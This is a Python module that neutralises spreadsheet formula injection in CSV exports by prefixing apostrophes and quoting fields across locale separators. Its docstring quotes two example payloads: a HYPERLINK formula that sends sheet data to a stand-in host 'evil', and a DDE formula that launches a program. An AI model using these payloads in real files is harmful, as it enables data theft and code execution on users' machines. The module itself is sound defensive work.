"""Text from untrusted sources made safe for spreadsheet programs: one rule for every CSV
Workbench writes (entity and link tables, histograms, import reports).

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return, which some programs strip first) as a formula: a scraped label such as
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet, ``=cmd|'/c calc'!A1`` would run a
program. The OWASP remedy is a leading apostrophe, which every spreadsheet reads as "this is
text". Checking only the first character is not enough: which character separates cells
depends on the program and the locale (a comma in English, a semicolon in most of continental
Europe, a tab when pasted), so ``x;=1+1;`` is a harmless label in one and the cells ``x``,
``=1+1`` in another. So the check is made for every piece a program could split the text
into, and every field holding a separator is quoted.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = re.compile(r"([,;\t])")  # list separators of spreadsheet programs, any locale
_NEEDS_QUOTES = re.compile(r'[,;\t"\r\n]')
_SURROGATES = re.compile("[\ud800-\udfff]")


def neutralise(text: str) -> str:
    """``text`` with an apostrophe before each piece (split at a comma, semicolon or tab)
    that would start a cell with a formula character, ignoring spaces before it."""
    pieces = SEPARATORS.split(text)
    for i in range(0, len(pieces), 2):  # the separators themselves sit at odd places
        if pieces[i].lstrip(" ").startswith(FORMULA_STARTS):
            pieces[i] = "'" + pieces[i]
    safe = "".join(pieces)
    return "'" + safe if safe.startswith(FORMULA_STARTS) else safe  # a leading tab


def csv_field(text: str) -> str:
    """A CSV field: quoted (quotes doubled) when it holds a separator of any locale, a quote
    or a line break, so no program splits it where it should not. A lone surrogate (broken
    UTF-16 in a source) cannot be written as UTF-8 and becomes '\ufffd'."""
    text = _SURROGATES.sub("\ufffd", text)
    if _NEEDS_QUOTES.search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_line(fields: Iterable[str]) -> str:
    """One CSV record, comma separated, ending in CRLF (RFC 4180, what Excel writes). The
    fields are written as given: neutralise untrusted text first."""
    return ",".join(csv_field(field) for field in fields) + "\r\n"
